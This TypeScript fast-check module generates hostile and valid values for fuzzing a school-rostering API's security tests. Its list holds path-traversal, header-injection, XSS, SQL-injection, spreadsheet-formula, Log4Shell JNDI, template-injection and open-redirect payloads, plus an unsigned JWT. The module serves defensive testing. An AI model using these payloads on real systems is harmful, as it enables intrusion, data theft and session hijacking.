// What a hostile client puts where a value belongs, and what a good one puts there. Texts only; where they go and how
// they are encoded is for requests.ts and bodies.ts. `{{name}}` is a hole that world.ts fills with something that lives.
import fc from 'fast-check';

/** Stands in what we send, so that it can be recognised where it must not come back. */
export const mark = 'zqxmark';

const shapes = [
  '',
  ' ',
  '.',
  '..',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '....//....//',
  `${mark}\r\nSet-Cookie: summit_session=${mark}`,
  `${mark}\n{"level":"info","event":"sign-in","outcome":"${mark}"}`,
  `\u0000${mark}`,
  `${mark}\u0000.csv`,
  `"><script>${mark}</script>`,
  `';${mark}--`,
  `=HYPERLINK("http://${mark}.invalid")`,
  `\${jndi:ldap://${mark}.invalid/a}`,
  `{{constructor.constructor("${mark}")()}}`,
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  'true',
  '-1',
  '0',
  '1e999',
  '9'.repeat(40),
  '[object Object]',
  '//evil.invalid',
  '/\\evil.invalid',
  'https://evil.invalid/',
  'javascript:alert(1)',
  'http://localhost:4000@evil.invalid/',
  'data:text/html,x',
  '\u202e\u200b\ufeff',
  '\u{1f600}'.repeat(60),
  'e\u0301'.repeat(200),
  '\ud800',
  'K\u212a\u0130\u0131ß',
  '*'.repeat(481),
  `${mark}${'a'.repeat(5_000)}`,
  'ana@students.juniperflats.example',
  '2026-02-31',
  '0001-01-01',
  '9999-12-31T23:59:59.999+14:00',
  '2026-01-01T00:00:00Z',
  '1970-01-01.00000000000000000000',
] as const;

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...shapes) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 600 }) },
);

const real: Readonly<Record<string, readonly string[]>> = {
  id: ['juniper-flats', 'port-wexley', 'alder-creek', 'scratch-sftp', 'scratch-manual'],
  district: ['juniper-flats', 'port-wexley', '{{victim.district}}'],
  district_id: ['{{victim.cleverDistrict}}', 'e397c1571758a8688d55e572'],
  method: ['sftp', 'manual', 'secure-sync'],
  reference: ['{{reference}}', '{{reference.lower}}', '0000-0000'],
  account: ['{{victim.account}}', '00000000-0000-0000-0000-000000000000', '{{victim.sid}}'],
  email: ['{{victim.email}}', '{{refused.email}}'],
  clever_id: ['{{victim.cleverId}}', 'aaaaaaaaaaaaaaaaaaaaaaaa', 'bbbb'],
  q: ['{{reference}}', '{{victim.email}}', '{{victim.cleverId}}', '{{victim.account}}'],
  token: ['{{session.victim}}', '{{session.other}}', 'eyJhbGciOiJub25lIn0.e30.'],
  token_type_hint: ['access_token'],
  form: ['{{form}}', '{{staff.form}}'],
  state: ['{{state}}', '{{state.used}}'],
  code: ['{{code}}', 'a-code', 'email_mismatch', 'not_rostered'],
  error: ['access_denied', 'unauthorized_user', 'server_error'],
  error_description: [mark],
  after: ['{{cursor.roster}}', '{{cursor.revocations}}', ''],
  cursor: ['{{cursor.attempts}}', ''],
  dry_run: ['true', 'false'],
  app: ['summit-k12', 'secure-sync'],
  return_to: ['/dashboard', '/support', '/support/districts', '{{product.url}}/x?y=1#z'],
  from: ['2026-01-01', '2026-01-01T00:00:00Z'],
  to: ['2030-01-01', '2026-12-31T23:59:59+02:00'],
  reason: ['asked for by the district', mark],
  all: ['all'],
  name: [`District ${mark}`],
  rostering: ['sftp', 'manual', 'secure-sync:full'],
};

/** For a field, parameter or step of a path with this name: often right, often not. */
export function valueFor(name: string, hostility = 1): fc.Arbitrary<string> {
  const good = real[name];
  return good === undefined
    ? hostileText
    : fc.oneof({ weight: 2, arbitrary: fc.constantFrom(...good) }, { weight: hostility, arbitrary: hostileText });
}

/** As it stands in a request target: mostly well encoded, sometimes twice, sometimes not at all, sometimes broken. */
export const encoded = (text: fc.Arbitrary<string>): fc.Arbitrary<string> =>
  fc.tuple(text, fc.integer({ min: 0, max: 19 })).map(([value, way]) => {
    if (value.startsWith('{{')) return value;
    if (way === 0) return `${encode(value)}%`;
    if (way === 1) return `${encode(value)}%ff%fe`;
    if (way === 2) return `%${encode(value)}`;
    if (way === 3) return encode(encode(value));
    if (way === 4) return encode(value).replace(/[a-z]/g, (sign) => `%${sign.charCodeAt(0).toString(16)}`);
    if (way === 5) return value.replace(/[^!-~]/gu, '~');
    return encode(value);
  });

const encode = (value: string) => encodeURIComponent(Buffer.from(value).toString());

/** The value `yes` times for every `no` times without it. */
export const maybe = <Value>(yes: number, no: number, value: fc.Arbitrary<Value>): fc.Arbitrary<Value | undefined> =>
  fc.oneof({ weight: yes, arbitrary: value }, { weight: no, arbitrary: fc.constant(undefined) });
